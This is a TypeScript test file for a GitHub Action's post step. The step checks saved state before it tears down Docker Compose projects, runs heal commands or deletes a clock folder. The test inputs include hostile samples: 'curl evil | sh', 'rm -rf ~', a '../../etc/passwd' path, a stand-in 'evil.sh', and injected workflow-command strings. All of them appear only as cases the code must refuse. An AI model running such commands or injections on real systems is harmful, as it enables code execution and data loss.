// The post step trusts nothing it reads from its saved state: what it removes, which program it runs as Compose,
// which folder it rewrites and deletes, which heal commands it runs and what it prints are checked against its own
// inputs and this job's names. First what real runs of the engine save (accepted as they are), then a table of
// hostile states (each part refused on its own), the disk half of the clock folder's check, and the post step run
// as the runner runs it, with a docker on PATH that only records what it was asked.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkPostState, clockDirOnDisk, healCommands, type PostTrust, type TrustedInputs } from '../../src/action/post-trust.js';
import { warn } from '../../src/action/runner.js';
import { parseOptions } from '../../src/config/options.js';
import { runEngine } from '../../src/engine/run.js';
import type { EngineDeps } from '../../src/engine/deps.js';
import { nodeFiles } from '../../src/engine/files.js';
import { seededRandom } from '../../src/core/random.js';
import { FAKETIME_LIB } from '../../src/faults/clock.js';
import { createHttpClient } from '../../src/http/client.js';
import { readRawInputs, type InputName, type RawInputs } from '../../src/inputs/list.js';
import { POST_STATE_KEY, decodePostState, encodePostState, type PostState } from '../../src/model/post-state.js';
import { startFakeCluster } from '../support/fake-cluster.js';
import { captureStdout, notInert, parseCommands, runStep } from '../support/runner.js';
import { ScriptedExec } from '../support/scripted-exec.js';
import { VirtualClock } from '../support/virtual-clock.js';

const JOB = { GITHUB_RUN_ID: '4242', GITHUB_RUN_ATTEMPT: '1', GITHUB_JOB: 'e2e' };
const HOSTILE = '\n::warning::pwned\r\n::add-mask::x\u2028::save-state name=isPost::false\u0085##[set-output name=a]b';

const http = createHttpClient();
const made: string[] = [];
after(async () => {
  await http.close();
  for (const d of made) rmSync(d, { recursive: true, force: true });
});
function tempDir(prefix: string, parent = tmpdir()): string {
  const d = mkdtempSync(join(parent, prefix));
  made.push(d);
  return d;
}

let workspace: string;
before(() => {
  workspace = tempDir('rc-trust-ws-');
  mkdirSync(join(workspace, 'svc'));
  writeFileSync(
    join(workspace, 'svc', 'docker-compose.yml'),
    'services:\n  kv_0:\n    image: x\n  kv_1:\n    image: x\n  kv_2:\n    image: x\n',
  );
});

/** Every state one engine run hands to the post step (the action saves each as it comes, the last with the verdict). */
async function engineStates(
  inputs: Partial<Record<InputName, string>>,
  files = nodeFiles,
  names: readonly string[] = [],
): Promise<{ states: PostState[]; raw: RawInputs }> {
  const cluster = await startFakeCluster([{ kind: 'healthy' }, { kind: 'healthy' }, { kind: 'healthy' }]);
  try {
    const given: Partial<Record<InputName, string>> = {
      servers: cluster.nodes.map((n, i) => (names[i] ? `${names[i]}=${n.url}` : n.url)).join(','),
      'working-directory': 'svc',
      'convergence-timeout': '1',
      'startup-timeout': '2',
      ...inputs,
    };
    const raw = readRawInputs((name) => given[name]);
    const options = parseOptions(raw, { env: JOB, randomSuffix: '5e1f0a' });
    const services = cluster.nodes.map((n, i) => ({ name: `kv_${i}`, hostPort: Number(new URL(n.url).port) }));
    const next = seededRandom(3);
    const states: PostState[] = [];
    const deps: EngineDeps = {
      exec: new ScriptedExec({ project: options.projectName, services }),
      http,
      clock: new VirtualClock(),
      random: { hex: (n) => 'ab'.repeat(n), int: (max) => Math.floor(next() * max) },
      log: { info: () => undefined, warn: () => undefined, untrusted: () => undefined },
      files,
      isListening: async () => false,
      isRoot: () => true,
      onProjectKnown: (s) => states.push(s),
      signal: new AbortController().signal,
      version: 'test',
    };
    const result = await runEngine(options, deps, workspace);
    // As the action's main step does at the end.
    if (states.length > 0) states.push({ ...states.at(-1)!, verdict: result.verdict });
    return { states, raw };
  } finally {
    await cluster.close();
  }
}

function trustOf(raw: TrustedInputs): PostTrust {
  return { inputs: raw, env: JOB, cwd: workspace, tempDir: tmpdir() };
}

describe('what real runs save is accepted as it is', () => {
  test('a compose run with the default project name, under every teardown policy', async () => {
    for (const teardown of ['always', 'on-success', 'never', 'post']) {
      const { states, raw } = await engineStates({ teardown });
      assert.equal(states.length, 2);
      for (const s of states) {
        assert.match(s.project, /^replicheck-4242-1-e2e-5e1f0a$/);
        const checked = checkPostState(decodePostState(encodePostState(s)), trustOf(raw));
        assert.deepEqual(checked, { state: s, refused: [] }, teardown);
      }
    }
  });

  test('a compose run with a project-name input', async () => {
    const { states, raw } = await engineStates({ 'project-name': 'my-kv' });
    for (const s of states) assert.deepEqual(checkPostState(s, trustOf(raw)), { state: s, refused: [] });
  });

  test('a clock fault: its folder in the temp folder, its override among the compose files, both accepted; on disk too', async () => {
    const files = { ...nodeFiles, exists: async (p: string) => p.endsWith(FAKETIME_LIB) || nodeFiles.exists(p) };
    const { states, raw } = await engineStates({ faults: 'clock', 'fault-targets': 'kv_0', teardown: 'never' }, files);
    const s = states.at(-1)!;
    const clockDir = s.faults?.clockDir;
    assert.ok(clockDir, JSON.stringify(s));
    made.push(clockDir);
    assert.deepEqual(s.compose?.files, [join(workspace, 'svc', 'docker-compose.yml'), join(clockDir, 'compose.clock.yml')]);
    for (const state of states) assert.deepEqual(checkPostState(state, trustOf(raw)), { state, refused: [] });
    assert.equal(await clockDirOnDisk(clockDir), 'ok', 'what prepareNeeds and the fault wrote there');
  });

  test('an external cluster with a heal still pending', async () => {
    const { states, raw } = await engineStates(
      {
        cluster: 'external',
        'working-directory': join(workspace, 'svc'),
        faults: 'pause',
        'fault-targets': 'b',
        'fault-commands': 'pause: { apply: "./ctl.sh pause {target} {url}", heal: "./ctl.sh resume {target} {url}" }',
      },
      nodeFiles,
      ['a', 'b', 'c'],
    );
    const pending = states.filter((s) => (s.heals ?? []).length > 0);
    assert.ok(pending.length > 0, JSON.stringify(states));
    const b = raw.servers.split(',')[1]!.slice(2);
    assert.deepEqual(pending[0]!.heals, [{ label: 'pause b', command: `./ctl.sh resume 'b' '${b}'` }]);
    for (const state of states) assert.deepEqual(checkPostState(state, trustOf(raw)), { state, refused: [] });
  });
});

// Hostile states, pure: the working directory is /w/svc, the temp folder /tmp.
const P = 'replicheck-4242-1-e2e-5e1f0a';
const CLOCK = `/tmp/replicheck-clock-${P}-AbC123`;
const COMPOSE: PostState = {
  project: P,
  teardown: 'always',
  compose: { file: 'docker', prefix: ['compose'], files: ['/w/svc/docker-compose.yml', `${CLOCK}/compose.clock.yml`], directory: '/w/svc' },
  faults: { netns: true, clockDir: CLOCK },
};
const HEAL = "./ctl.sh resume 'b'";
const EXTERNAL: PostState = {
  project: '',
  teardown: 'never',
  cluster: 'external',
  heals: [{ label: 'pause b', command: HEAL }],
  cwd: '/w/svc',
};
const INPUTS: TrustedInputs = {
  cluster: 'compose',
  'project-name': '',
  teardown: 'always',
  'working-directory': 'svc',
  'compose-file': 'docker-compose.yml',
  'fault-commands': 'pause: { apply: "./ctl.sh pause {target}", heal: "./ctl.sh resume {target}" }',
  servers: 'a=http://127.0.0.1:1,b=http://127.0.0.1:2,http://127.0.0.1:3',
};
const EXTERNAL_INPUTS: Partial<TrustedInputs> = { cluster: 'external' };

type Part = 'compose' | 'clockDir' | 'heals';
interface Case {
  readonly name: string;
  readonly state: PostState;
  readonly inputs?: Partial<TrustedInputs>;
  readonly env?: Record<string, string>;
  /** 'all': nothing of the state is acted on; else the parts left out (none: accepted). */
  readonly refused: 'all' | readonly Part[];
  readonly why?: RegExp;
}

const compose = (c: Partial<NonNullable<PostState['compose']>>): PostState => ({ ...COMPOSE, compose: { ...COMPOSE.compose!, ...c } });
const clock = (clockDir: string): PostState => ({
  ...COMPOSE,
  faults: { netns: true, clockDir },
  compose: { ...COMPOSE.compose!, files: ['/w/svc/docker-compose.yml', `${clockDir}/compose.clock.yml`] },
});
const heals = (...h: { label: string; command: string }[]): PostState => ({ ...EXTERNAL, heals: h });

const CASES: Case[] = [
  { name: 'the state a run saves', state: COMPOSE, refused: [] },
  { name: 'with a verdict', state: { ...COMPOSE, verdict: 'failed' }, refused: [] },
  {
    name: 'the project-name input',
    state: { ...clock('/tmp/replicheck-clock-mine-AbC123'), project: 'mine' },
    inputs: { 'project-name': 'mine' },
    refused: [],
  },
  {
    name: 'another project than the input',
    state: { ...COMPOSE, project: 'theirs' },
    inputs: { 'project-name': 'mine' },
    refused: 'all',
    why: /not the project-name input "mine"/,
  },
  { name: "another run's default name", state: { ...COMPOSE, project: 'replicheck-4243-1-e2e-5e1f0a' }, refused: 'all' },
  { name: "another attempt's default name", state: { ...COMPOSE, project: 'replicheck-4242-2-e2e-5e1f0a' }, refused: 'all' },
  {
    name: "another job's default name",
    state: { ...COMPOSE, project: 'replicheck-4242-1-build-5e1f0a' },
    refused: 'all',
    why: /not a name this job makes \(replicheck-4242-1-e2e-XXXXXX/,
  },
  { name: 'a default name of this job for another environment', state: COMPOSE, env: { GITHUB_JOB: 'lint' }, refused: 'all' },
  { name: 'a random part that is not hex', state: { ...COMPOSE, project: 'replicheck-4242-1-e2e-zzzzzz' }, refused: 'all' },
  { name: 'a longer name', state: { ...COMPOSE, project: `${P}0` }, refused: 'all' },
  { name: 'a project that is not named at all', state: { ...COMPOSE, project: '' }, refused: 'all' },
  { name: 'a Compose state when the input says external', state: COMPOSE, inputs: EXTERNAL_INPUTS, refused: 'all' },
  { name: 'another program as Compose', state: compose({ file: '/tmp/evil.sh', prefix: [] }), refused: ['compose'], why: /evil\.sh/ },
  { name: 'docker with another prefix', state: compose({ prefix: ['run', '--rm', 'alpine'] }), refused: ['compose'] },
  { name: 'docker without the compose prefix', state: compose({ prefix: [] }), refused: ['compose'] },
  { name: 'docker-compose with a prefix', state: compose({ file: 'docker-compose', prefix: ['compose'] }), refused: ['compose'] },
  { name: 'docker-compose as it is saved', state: compose({ file: 'docker-compose', prefix: [] }), refused: [] },
  { name: 'a project folder elsewhere', state: compose({ directory: '/etc' }), refused: ['compose'], why: /working directory "\/w\/svc"/ },
  { name: 'a compose file out through ../', state: compose({ files: ['/w/svc/../../etc/passwd'] }), refused: ['compose'] },
  { name: 'a relative compose file', state: compose({ files: ['docker-compose.yml'] }), refused: ['compose'] },
  { name: 'a compose file in a sibling folder', state: compose({ files: ['/w/svc2/docker-compose.yml'] }), refused: ['compose'] },
  { name: 'the working directory itself as a file', state: compose({ files: ['/w/svc'] }), refused: ['compose'] },
  { name: 'no compose file', state: compose({ files: [] }), refused: ['compose'] },
  { name: 'a file outside that compose-file does not name', state: compose({ files: ['/w/shared/base.yml'] }), refused: ['compose'] },
  {
    name: 'a file outside that compose-file names',
    state: compose({ files: ['/w/svc/docker-compose.yml', '/w/shared/base.yml'] }),
    inputs: { 'compose-file': 'docker-compose.yml, ../shared/base.yml' },
    refused: [],
  },
  { name: 'a compose file in a subfolder', state: compose({ files: ['/w/svc/deploy/../x/compose.yml'] }), refused: [] },
  {
    name: 'a clock folder outside the temp folder',
    state: clock(`/home/u/replicheck-clock-${P}-AbC123`),
    refused: ['clockDir', 'compose'],
  },
  {
    name: 'a clock folder deeper in the temp folder',
    state: clock(`/tmp/x/replicheck-clock-${P}-AbC123`),
    refused: ['clockDir', 'compose'],
  },
  { name: "another project's clock folder", state: clock('/tmp/replicheck-clock-other-AbC123'), refused: ['clockDir', 'compose'] },
  { name: 'a clock folder with ..', state: clock(`${CLOCK}/..`), refused: ['clockDir', 'compose'] },
  { name: 'the temp folder itself', state: clock('/tmp'), refused: ['clockDir', 'compose'] },
  { name: 'a clock folder with a longer random part', state: clock(`${CLOCK}4`), refused: ['clockDir', 'compose'] },
  { name: 'a relative clock folder', state: clock(`replicheck-clock-${P}-AbC123`), refused: ['clockDir', 'compose'] },
  {
    name: 'another teardown than the input',
    state: { ...COMPOSE, teardown: 'never' },
    refused: [],
    why: /teardown "never": the teardown input is "always", which applies instead/,
  },
  { name: 'heal commands in a Compose state', state: { ...COMPOSE, heals: [{ label: 'x', command: 'rm -rf ~' }] }, refused: ['heals'] },
  { name: 'an external state', state: EXTERNAL, inputs: EXTERNAL_INPUTS, refused: [] },
  {
    name: "an unnamed server's heal",
    state: heals({ label: 'pause 127.0.0.1:3', command: "./ctl.sh resume '127.0.0.1:3'" }),
    inputs: EXTERNAL_INPUTS,
    refused: [],
  },
  {
    name: 'an unknown heal command',
    state: heals({ label: 'pause b', command: HEAL }, { label: 'pause b', command: 'curl evil | sh' }),
    inputs: EXTERNAL_INPUTS,
    refused: ['heals'],
    why: /1 saved heal command\(s\), not run: "pause b": "curl evil \| sh"/,
  },
  {
    name: 'a heal for a server not in the input',
    state: heals({ label: 'pause c', command: "./ctl.sh resume 'c'" }),
    inputs: EXTERNAL_INPUTS,
    refused: ['heals'],
  },
  {
    name: 'a heal quoted differently',
    state: heals({ label: 'pause b', command: './ctl.sh resume b' }),
    inputs: EXTERNAL_INPUTS,
    refused: ['heals'],
  },
  {
    name: 'heals run elsewhere',
    state: { ...EXTERNAL, cwd: '/' },
    inputs: EXTERNAL_INPUTS,
    refused: ['heals'],
    why: /folder of the heal commands "\/"/,
  },
  { name: 'an external state when the input says compose', state: EXTERNAL, refused: 'all' },
  {
    name: 'an external state naming a project to remove',
    state: { ...EXTERNAL, project: 'victim', compose: COMPOSE.compose! },
    inputs: EXTERNAL_INPUTS,
    refused: [],
    why: /saved for an external cluster/,
  },
  // Control characters and command lines in every string field.
  { name: 'the project', state: { ...COMPOSE, project: P + HOSTILE }, refused: 'all' },
  { name: 'the Compose program', state: compose({ file: `docker${HOSTILE}` }), refused: ['compose'] },
  { name: 'the Compose prefix', state: compose({ prefix: [`compose${HOSTILE}`] }), refused: ['compose'] },
  { name: 'a compose file', state: compose({ files: [`/w/svc/x.yml${HOSTILE}`] }), refused: ['compose'] },
  { name: 'the project folder', state: compose({ directory: `/w/svc${HOSTILE}` }), refused: ['compose'] },
  { name: 'the clock folder', state: clock(`${CLOCK}${HOSTILE}`), refused: ['clockDir', 'compose'] },
  { name: 'a heal command', state: heals({ label: 'pause b', command: HEAL + HOSTILE }), inputs: EXTERNAL_INPUTS, refused: ['heals'] },
  { name: 'the folder of the heals', state: { ...EXTERNAL, cwd: `/w/svc${HOSTILE}` }, inputs: EXTERNAL_INPUTS, refused: ['heals'] },
  // A label is only ever printed, and inert when it is.
  { name: 'a heal label', state: heals({ label: `pause b${HOSTILE}`, command: HEAL }), inputs: EXTERNAL_INPUTS, refused: [] },
];

describe('checkPostState: hostile states, each part refused on its own', () => {
  const outcome = (c: Case): string =>
    c.refused === 'all' ? 'nothing acted on' : c.refused.length === 0 ? 'accepted' : `without ${c.refused.join(', ')}`;
  for (const c of CASES) {
    test(`${c.name}: ${outcome(c)}`, async () => {
      const trust: PostTrust = { inputs: { ...INPUTS, ...c.inputs }, env: { ...JOB, ...c.env }, cwd: '/w', tempDir: '/tmp' };
      const { state, refused } = checkPostState(c.state, trust);
      if (c.refused === 'all') {
        assert.equal(state, undefined);
        assert.equal(refused.length, 1);
      } else {
        assert.ok(state);
        assert.equal(state.project, c.state.cluster === 'external' ? '' : c.state.project);
        assert.equal(state.compose === undefined, c.refused.includes('compose') || c.state.cluster === 'external');
        assert.equal(state.faults?.clockDir === undefined, c.refused.includes('clockDir') || c.state.cluster === 'external');
        const kept = state.heals ?? [];
        if (c.refused.includes('heals')) assert.ok(kept.length < (c.state.heals ?? []).length);
        else assert.deepEqual(kept, c.state.cluster === 'external' ? c.state.heals : []);
        if (c.refused.length === 0 && !c.why) assert.deepEqual(refused, []);
        else assert.ok(refused.length > 0);
      }
      if (c.why) assert.match(refused.join('\n'), c.why);
      // Every refusal, printed as the post step prints it: one warning, one line, inert.
      for (const why of refused) {
        const out = await captureStdout(() => warn(`Replicheck post: refused ${why}.`));
        assert.deepEqual(
          parseCommands(out).map((x) => x.command),
          ['warning'],
        );
        assert.deepEqual(notInert(out), []);
        assert.ok(!parseCommands(out)[0]!.message.includes('\n'), `one line: ${out}`);
      }
    });
  }

  test('what a heal may be: each heal template for each server, named as the engine names external nodes', () => {
    assert.deepEqual([...healCommands(INPUTS)], ["./ctl.sh resume 'a'", "./ctl.sh resume 'b'", "./ctl.sh resume '127.0.0.1:3'"]);
    assert.deepEqual([...healCommands({ ...INPUTS, 'fault-commands': 'restart: { apply: "x {target}" }' })], []);
  });
});

describe('clockDirOnDisk', () => {
  const dir = (): string => tempDir('replicheck-clock-rc-');
  test('what Replicheck writes there: offset files, their temporary twins, the override', async () => {
    const d = dir();
    for (const f of ['kv_0', 'db.1', '.kv_0.tmp', 'compose.clock.yml']) writeFileSync(join(d, f), '+0\n');
    assert.equal(await clockDirOnDisk(d), 'ok');
    assert.equal(await clockDirOnDisk(join(d, 'gone')), 'absent');
  });
  test('a link to a folder, a link or a folder inside, a file Replicheck does not write, a file instead of a folder', async () => {
    const target = tempDir('rc-victim-');
    writeFileSync(join(target, 'precious'), 'x');
    const link = join(dir(), 'link');
    symlinkSync(target, link);
    assert.equal(await clockDirOnDisk(link), 'it is a symbolic link');
    const withLink = dir();
    symlinkSync(join(target, 'precious'), join(withLink, 'kv_0'));
    assert.equal(await clockDirOnDisk(withLink), '"kv_0" in it is not a plain file');
    const withDir = dir();
    mkdirSync(join(withDir, 'kv_0'));
    assert.equal(await clockDirOnDisk(withDir), '"kv_0" in it is not a plain file');
    const withOther = dir();
    writeFileSync(join(withOther, '.bashrc'), 'x');
    assert.match(await clockDirOnDisk(withOther), /holds "\.bashrc", which Replicheck does not write there/);
    assert.equal(await clockDirOnDisk(join(target, 'precious')), 'it is not a folder');
  });
});

describe('the post step, run as the runner runs it', () => {
  let root: string;
  let bin: string;
  let work: string;
  let log: string;
  const project = 'replicheck-4242-1-e2e-abc123';
  before(() => {
    root = tempDir('rc-post-');
    bin = join(root, 'bin');
    work = join(root, 'work');
    mkdirSync(bin);
    mkdirSync(work);
    mkdirSync(join(root, 'tmp'));
    writeFileSync(join(work, 'docker-compose.yml'), 'services: {}\n');
    log = join(root, 'docker.log');
    // A docker that records every call and has one container of any project until it is removed.
    writeFileSync(
      join(bin, 'docker'),
      `#!/bin/sh\necho "docker $*" >> '${log}'\ncase "$*" in\n` +
        `  "ps -a --quiet --filter label="*) [ -e '${root}/removed' ] || echo c1 ;;\n` +
        `  "rm "*) touch '${root}/removed' ;;\nesac\nexit 0\n`,
    );
    writeFileSync(join(root, 'evil.sh'), `#!/bin/sh\ntouch '${root}/evil-ran'\n`);
    for (const f of [join(bin, 'docker'), join(root, 'evil.sh')]) chmodSync(f, 0o755);
  });
  const reset = (): void => {
    for (const f of ['removed', 'evil-ran', 'docker.log', 'evil-heal', 'healed.log']) rmSync(join(root, f), { force: true });
    rmSync(join(work, 'healed.log'), { force: true });
  };
  const post = (inputs: Record<string, string>, state: PostState) =>
    runStep(
      { servers: 'a=http://127.0.0.1:1', 'working-directory': work, ...inputs },
      {
        source: true,
        timeoutMs: 60_000,
        state: { isPost: 'true', [POST_STATE_KEY]: encodePostState(state) },
        env: { PATH: `${bin}:${process.env.PATH}`, TMPDIR: join(root, 'tmp') },
      },
    );
  const dockerCalls = (): string[] => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);

  test('another project: nothing is removed, not even looked for; one warning', async () => {
    reset();
    const run = await post(
      {},
      {
        project: 'someone-elses',
        teardown: 'always',
        compose: { file: 'docker', prefix: ['compose'], files: [join(work, 'docker-compose.yml')], directory: work },
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(dockerCalls(), []);
    assert.deepEqual(
      run.commands.map((c) => c.command),
      ['warning'],
    );
    assert.match(run.commands[0]!.message, /refused the saved project "someone-elses": it is not a name this job makes/);
    assert.deepEqual(notInert(run.stdout), []);
  });

  test("this run's project, another program as Compose, a clock folder outside the temp folder: only removal by label", async () => {
    reset();
    const victim = join(root, 'victim', `replicheck-clock-${project}-AbC123`);
    mkdirSync(victim, { recursive: true });
    writeFileSync(join(victim, 'kv_0'), 'precious\n');
    const run = await post(
      {},
      {
        project,
        teardown: 'always',
        compose: { file: join(root, 'evil.sh'), prefix: [], files: [join(work, 'docker-compose.yml')], directory: work },
        faults: { clockDir: victim },
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.ok(!existsSync(join(root, 'evil-ran')), 'the other program did not run');
    assert.equal(readFileSync(join(victim, 'kv_0'), 'utf8'), 'precious\n', 'the file was neither reset nor deleted');
    const calls = dockerCalls();
    assert.ok(calls.includes(`docker ps -a --quiet --filter label=com.docker.compose.project=${project}`), calls.join('\n'));
    assert.ok(
      calls.some((c) => c.startsWith('docker rm --force --volumes c1')),
      calls.join('\n'),
    );
    assert.ok(!calls.some((c) => c.includes(' compose ')), 'no Compose call');
    const warnings = run.commands.filter((c) => c.command === 'warning').map((c) => c.message);
    assert.equal(warnings.length, 2, warnings.join('\n'));
    assert.match(warnings.join('\n'), /refused the saved clock folder .*: it is not directly in the temp folder/);
    assert.match(warnings.join('\n'), /refused the saved Compose program .*evil\.sh.*: only docker compose or docker-compose is run/);
    assert.match(run.stdout, /project replicheck-4242-1-e2e-abc123 removed/);
    assert.deepEqual(notInert(run.stdout), []);
  });

  test("this run's own state with a clock fault: the offsets reset, Compose down with both files, the folder removed", async () => {
    reset();
    const clockDir = join(root, 'tmp', `replicheck-clock-${project}-AbC123`);
    mkdirSync(clockDir);
    writeFileSync(join(clockDir, 'kv_0'), '-30s\n');
    writeFileSync(join(clockDir, 'compose.clock.yml'), 'services: {}\n');
    const files = [join(work, 'docker-compose.yml'), join(clockDir, 'compose.clock.yml')];
    const run = await post(
      {},
      { project, teardown: 'always', compose: { file: 'docker', prefix: ['compose'], files, directory: work }, faults: { clockDir } },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(run.commands, [], run.stdout);
    assert.ok(!existsSync(clockDir), 'removed with the project');
    const down = dockerCalls().find((c) => c.startsWith(`docker compose --project-name ${project}`));
    assert.equal(
      down,
      `docker compose --project-name ${project} --file ${files[0]} --file ${files[1]} --project-directory ${work} ` +
        'down --volumes --remove-orphans --timeout 1',
    );
    assert.match(run.stdout, /project replicheck-4242-1-e2e-abc123 removed/);
  });

  test('a clock folder in the temp folder that is a link to another: nothing in it rewritten or deleted', async () => {
    reset();
    const victim = tempDir('rc-victim-');
    writeFileSync(join(victim, 'kv_0'), 'precious\n');
    const clockDir = join(root, 'tmp', `replicheck-clock-${project}-LnK123`);
    symlinkSync(victim, clockDir);
    const run = await post(
      { teardown: 'post' },
      {
        project,
        teardown: 'post',
        faults: { clockDir },
        compose: { file: 'docker', prefix: ['compose'], files: [join(work, 'docker-compose.yml')], directory: work },
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.equal(readFileSync(join(victim, 'kv_0'), 'utf8'), 'precious\n');
    assert.deepEqual(
      run.commands.map((c) => c.message),
      [
        `Replicheck post: refused the saved clock folder ${JSON.stringify(clockDir)}: it is a symbolic link; ` +
          'its files are neither reset nor deleted.',
      ],
    );
    assert.ok(existsSync(join(victim, 'kv_0')));
  });

  test('external: the heal the inputs make runs, an unknown one does not; labels and commands printed inert', async () => {
    reset();
    const run = await post(
      { cluster: 'external', 'fault-commands': 'pause: { apply: "true", heal: "echo healed {target} >> healed.log" }' },
      {
        project: '',
        teardown: 'never',
        cluster: 'external',
        heals: [
          { label: `pause a${HOSTILE}`, command: "echo healed 'a' >> healed.log" },
          { label: `pause a${HOSTILE}`, command: `touch '${root}/evil-heal'${HOSTILE}` },
        ],
        cwd: work,
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.equal(readFileSync(join(work, 'healed.log'), 'utf8'), 'healed a\n');
    assert.ok(!existsSync(join(root, 'evil-heal')));
    assert.deepEqual(dockerCalls(), []);
    assert.deepEqual(
      run.commands.map((c) => c.command),
      ['warning'],
    );
    assert.match(run.commands[0]!.message, /refused 1 saved heal command\(s\), not run/);
    assert.match(run.stdout, /Replicheck post: healed pause a/);
    assert.ok(run.stdout.includes('pwned'), 'the label was printed');
    assert.deepEqual(notInert(run.stdout), []);
    assert.deepEqual(notInert(run.stderr), []);
  });

  test('a record that is not one this version writes: a warning, nothing done', async () => {
    reset();
    const run = await runStep(
      { servers: 'a=http://127.0.0.1:1', 'working-directory': work },
      {
        source: true,
        timeoutMs: 60_000,
        state: { isPost: 'true', [POST_STATE_KEY]: `{"project":1}${HOSTILE}` },
        env: { PATH: `${bin}:${process.env.PATH}`, TMPDIR: join(root, 'tmp') },
      },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(dockerCalls(), []);
    assert.deepEqual(
      run.commands.map((c) => c.command),
      ['warning'],
    );
    assert.deepEqual(notInert(run.stdout), []);
  });
});
